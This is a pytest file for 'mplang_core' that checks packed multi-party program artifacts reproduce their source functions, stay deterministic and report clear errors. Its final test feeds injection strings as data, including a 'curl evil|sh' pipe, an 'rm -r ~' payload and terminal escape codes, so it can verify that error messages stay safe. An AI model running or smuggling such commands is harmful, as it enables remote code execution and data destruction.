"""A packed program gives what the function gave: in a new process, without its source, too."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import msgspec
import numpy as np
import pytest
from artifact.programs import CASES, Pair, close

import mplang_core as mp
from mplang_core import MPType, TensorType
from mplang_core.errors import ConfigError, PluginLoadError, TraceError
from mplang_core.feop import flatten

CHILD = Path(__file__).with_name("child.py")


NAMES = [pytest.param(name, marks=pytest.mark.needs(*case.needs)) for name, case in CASES.items()]


def packed(name: str) -> bytes:
    return mp.artifact.pack(CASES[name].compiled())


@pytest.mark.parametrize("name", NAMES)
def test_it_gives_the_same_as_the_function(name, mode, simulate):
    case = CASES[name]
    artifact = mp.artifact.load(packed(name))
    sim = simulate(case.cluster)
    args = case.args(sim)
    expected = mp.evaluate(sim, case.fn, *args, mode=mode)
    found = mp.evaluate(sim, artifact, *args, mode=mode)  # which is artifact.run
    one, other = flatten(expected), flatten(found)
    assert str(other[1]).replace("Pair", "") == str(one[1]).replace("Pair", "")
    for a, b, value in zip(one[0], other[0], case.results, strict=True):
        assert (a.type, a.device, a.uniform) == (b.type, b.device, b.uniform)
        for leaf in (a, b):
            assert value is None or close(mp.fetch(sim, leaf), value)


@pytest.mark.needs("jax", "spu", "crypto")
def test_all_run_in_a_new_process_without_their_source(tmp_path):
    expected = {}
    for name, case in CASES.items():
        mp.artifact.save(tmp_path / f"{name}.mpl", case.compiled())
        (tmp_path / f"{name}.json").write_text(json.dumps(case.data))
        expected[name] = case.results
    child = [sys.executable, str(CHILD), str(tmp_path)]
    done = subprocess.run(child, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    found = json.loads(done.stdout)
    for mode in ("standard", "launch"):
        for name, results in expected.items():
            assert close([row["value"] for row in found[mode][name]], results), name


@pytest.mark.parametrize("name", NAMES)
def test_the_same_program_gives_the_same_bytes(name):
    data = packed(name)
    assert data == packed(name)
    assert mp.artifact.load(data).to_bytes() == data


def test_addresses_and_paths_stay_out():
    data = packed("swap")
    assert b"programs.py" in data
    assert b"/" not in data.split(b"programs.py")[0][-1:]
    bare = mp.artifact.pack(CASES["swap"].compiled(), locations=False)
    assert b"programs.py" not in bare
    assert mp.artifact.load(bare).digest == mp.artifact.load(data).digest


@pytest.mark.needs("jax", "spu")
def test_the_manifest_tells_what_it_needs():
    found = mp.artifact.manifest(packed("shares"))
    assert str(found.signature).startswith("(a: f32[3]@{0}, b: f32[2]@{1}) -> f32[]@{1} on P1, spu")
    assert found.cluster.parties == ("bank", "shop")
    assert [device.name for device in found.cluster.devices] == ["P0", "P1", "SP0"]
    assert "SEMI2K" in found.cluster.devices[2].config
    assert b"bank:1" not in packed("shares")
    needs = {each.distribution: each for each in found.requirements}
    assert list(needs) == ["mplang-core", "mplang-spu"]
    assert {"SPU", "spu.share", "spu.run_jax"} <= set(needs["mplang-spu"].brings)
    assert all(each.status == "ok" and each.version for each in needs.values())


# -- nests


def test_a_named_tuple_comes_back_as_one_of_that_name_and_those_fields(simulate):
    sim = simulate(2)
    artifact = mp.artifact.load(packed("swap"))
    found = artifact.run(sim, *CASES["swap"].args(sim))
    assert list(found) == ["both", "limit", "none"]
    assert found["none"] is None
    assert type(found["both"]).__name__ == "Pair"
    assert type(found["both"]) is type(artifact.run(sim, *CASES["swap"].args(sim))["both"])
    assert found["both"].first.device is None
    np.testing.assert_array_equal(mp.fetch(sim, found["both"].second[0])[1], [1, 2])


def test_arguments_are_nested_and_named(simulate):
    def fn(model, *more, text="a", rate):
        return [model["w"], model["pair"].second, *more, rate]

    compiled = mp.CompiledFunction(fn, mp.ClusterSpec.simple(1))
    compiled.trace(None, {"w": 1, "pair": Pair(2, 3)}, 4.0, 5.0, text="b", rate=6)
    artifact = mp.artifact.load(mp.artifact.pack(compiled))
    names = ("model.pair.first", "model.pair.second", "model.w", "more.0", "more.1", "rate", "text")
    assert artifact.signature.names == names
    assert artifact.signature.results == tuple(f"result.{i}" for i in range(5))
    sim = simulate(1)
    nest = {"w": 10, "pair": Pair(20, 30)}
    found = artifact.run(sim, nest, 40.0, 50.0, text="b", rate=60)
    assert [int(v[0]) for v in mp.fetch(sim, found)] == [10, 30, 40, 50, 60]
    with pytest.raises(TraceError, match="compiled in as 'b', got 'c'"):
        artifact.run(sim, nest, 40.0, 50.0, text="c", rate=60)
    with pytest.raises(TraceError, match="nested as"):
        artifact.run(sim, {"w": 10}, 40.0, 50.0, text="b", rate=60)


def test_arguments_by_position_may_come_by_keyword(simulate):
    sim = simulate(1)
    compiled = mp.compile(lambda x, y: (y, x), 1, 2, cluster_spec=sim.cluster_spec)
    artifact = mp.artifact.make(compiled)
    for found in (artifact.run(sim, 3, 4), artifact.run(sim, 3, y=4), artifact.run(sim, y=4, x=3)):
        assert [int(v[0]) for v in mp.fetch(sim, found)] == [4, 3]


def test_a_traced_function_and_a_bare_program_can_be_packed(simulate):
    cluster = mp.ClusterSpec.simple(2)
    traced = mp.trace(mp.TraceContext(cluster), lambda x: x, 1)
    for subject in (traced, traced.program):
        artifact = mp.artifact.load(mp.artifact.pack(subject, cluster))
        assert artifact.digest == traced.program.digest
        assert artifact.signature.names == ("0",)
        sim = simulate(2)
        assert artifact.run(sim, 5) is not None


# -- what cannot be packed


def test_captured_constants_are_part_of_the_program_but_values_of_a_host_are_not(simulate):
    sim = simulate(2)
    known = np.arange(20.0)
    artifact = mp.artifact.make(
        mp.compile(lambda x: (x, mp.constant(known)), 1, cluster_spec=sim.cluster_spec)
    )
    again = mp.artifact.load(artifact.to_bytes())
    np.testing.assert_array_equal(mp.fetch(sim, again.run(sim, 1))[1][0], known)
    with mp.with_ctx(sim):
        mine = mp.put("P0", 3)
    compiled = mp.compile(lambda x: (x, mine))
    compiled.trace(sim, 1)
    with pytest.raises(TraceError, match=r"values of a host.*i64\[\] at P0.*make them arg"):
        mp.artifact.pack(compiled, sim.cluster_spec)


class Odd:
    pass


@pytest.mark.parametrize(
    ("fn", "args", "reason"),
    [
        (lambda x: collections_deque(x), [1], "one is of class deque"),
        (lambda x: {1.5: x}, [1], "keys of a dict"),
        (lambda x, odd: x, [1, Odd()], "holds no Odd"),
    ],
)
def test_what_an_artifact_does_not_hold_is_told(fn, args, reason):
    compiled = mp.compile(fn, *args, cluster_spec=mp.ClusterSpec.simple(1))
    with pytest.raises(TraceError, match=reason):
        mp.artifact.pack(compiled)


def collections_deque(x):
    import collections

    return collections.deque([x])


@pytest.mark.parametrize("subject", [3, lambda x: x, None])
def test_what_is_no_program_is_told(subject):
    with pytest.raises(TraceError, match=r"mp\.compile or mp\.trace"):
        mp.artifact.pack(subject, mp.ClusterSpec.simple(1))


def test_a_function_that_was_not_traced_or_has_no_cluster_is_told():
    cluster = mp.ClusterSpec.simple(1)
    with pytest.raises(TraceError, match="traced for 0 kinds"):
        mp.artifact.pack(mp.compile(lambda x: x, cluster_spec=cluster))
    traced = mp.trace(mp.TraceContext(cluster), lambda x: x, 1)
    with pytest.raises(TraceError, match="is for a cluster"):
        mp.artifact.pack(traced)
    with pytest.raises(TraceError, match=r"runs on \{0\}, the cluster has \{0, 1\}"):
        mp.artifact.pack(traced, mp.ClusterSpec.simple(2))


def test_an_op_of_no_package_is_told():
    import toy

    x = MPType(TensorType("i64"), mp.Mask.of(0))
    compiled = mp.compile(
        lambda x: mp.invoke(toy.scale, x), x, cluster_spec=mp.ClusterSpec.simple(1)
    )
    with pytest.raises(PluginLoadError, match=r"toy\.scale is declared in 'toy'.*new-plugin"):
        mp.artifact.pack(compiled)


# -- where it cannot run


def test_another_cluster_is_told(simulate):
    artifact = mp.artifact.load(packed("swap"))
    with pytest.raises(
        TraceError, match="for the parties node0, node1, in this order.*has node0, "
    ) as caught:
        artifact.run(simulate(3), 1.5, [1, 2])
    assert caught.value.code == "T005"
    with pytest.raises(ConfigError, match="takes a host"):
        artifact.run("simulator")


@pytest.mark.needs("jax", "spu")
def test_another_device_is_told(simulate):
    artifact = mp.artifact.load(packed("shares"))
    described = {
        "nodes": [{"name": "bank"}, {"name": "shop"}],
        "devices": {
            "P1": {"kind": "PPU", "members": ["shop"]},
            "SP0": {"kind": "SPU", "members": [0, 1], "config": {"protocol": "CHEETAH"}},
        },
    }
    with pytest.raises(TraceError, match="SP0 is another: protocol is 'SEMI2K' in the artifact"):
        artifact.run(simulate(mp.ClusterSpec.from_dict(described)), 1, 2)


def needing(distribution: str, version: str) -> bytes:
    found = mp.artifact.load(packed("swap"))
    needs = mp.artifact.Requirement(distribution, version, ("moon.attest",))
    manifest = msgspec.structs.replace(found.manifest, requirements=(needs,))
    return mp.artifact.Artifact(manifest, found.program).to_bytes()


def test_a_package_that_is_missing_is_named_with_its_version():
    data = needing("mplang-moon", "1.2.3")
    with pytest.raises(
        PluginLoadError, match=r"mplang-moon 1\.2\.3 \(moon\.attest\), not here; ask"
    ):
        mp.artifact.load(data)
    shown = mp.artifact.inspect(data)
    assert shown.program is None
    assert "mplang-moon 1.2.3" in str(shown)
    assert shown.to_dict()["inputs"][0] == {"name": "x", "type": "f64[]@{0}", "literal": None}


@pytest.mark.parametrize(
    ("distribution", "version"),
    [
        ("mplang-jaxx", "1.0"),
        ("mplang-jaxx; curl evil|sh #\x1b[31m", "1.0"),
        ("mplang-moon", "1.0'; rm -r ~; '"),
        ("x\r\n" * 20, "\x1b]0;owned\x07"),
    ],
)
def test_nobody_is_told_to_install_what_an_artifact_names(distribution, version):
    data = needing(distribution, version)
    with pytest.raises(PluginLoadError, match="not here; ask its author") as error:
        mp.artifact.load(data)
    for told in (str(error.value), str(mp.artifact.inspect(data))):
        assert "pip install" not in told
        assert told.replace("\n", "").isprintable()
